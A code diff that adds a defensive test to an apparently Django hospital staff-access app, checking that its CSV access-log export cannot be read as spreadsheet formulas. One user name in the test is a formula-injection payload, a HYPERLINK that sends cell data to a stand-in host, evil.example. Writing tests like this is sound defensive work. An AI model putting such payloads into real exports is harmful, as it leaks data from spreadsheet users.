@@ -7,6 +7,7 @@ import io
 
 import pytest
 from django.contrib.auth import get_user_model
+from django.utils import timezone
 
 from creneau.staff.models import PatientDataView, StaffAccess
 from tests.conftest import PATIENT
@@ -70,3 +71,21 @@ def _department():
     from tests.conftest import role_in
 
     return role_in(PITIE, "neurosurgery").department
+
+
+def test_a_name_a_spreadsheet_would_run_is_written_as_text(client, aphp):
+    """Issue 27, point 11: no cell of the hub's CSV starts a formula."""
+    name = '=HYPERLINK("http://evil.example/?x="&A1,"open")'
+    looker = get_user_model().objects.create_user(name)
+    StaffAccess.objects.create(user=looker, role="org_admin", organisation=aphp)
+    for kind, subject in (("lookup", "+33 6 12"), ("agenda", "@SUM(1+1)"), ("print", "-2+3")):
+        PatientDataView.objects.create(
+            user=looker, kind=kind, subject=subject, shown=1, at=timezone.now()
+        )
+    client.force_login(staff_member(aphp, "auditor"))
+    export = client.get("/staff/access-log/", {"format": "csv"}).content.decode()
+    rows = list(csv.DictReader(io.StringIO(export)))
+    assert {row["who"] for row in rows} == {"'" + name}
+    assert {row["what"] for row in rows} == {"'+33 6 12", "'@SUM(1+1)", "'-2+3"}
+    cells = [cell for row in csv.reader(io.StringIO(export)) for cell in row]
+    assert not any(cell.startswith(("=", "+", "-", "@", "\t", "\r")) for cell in cells)
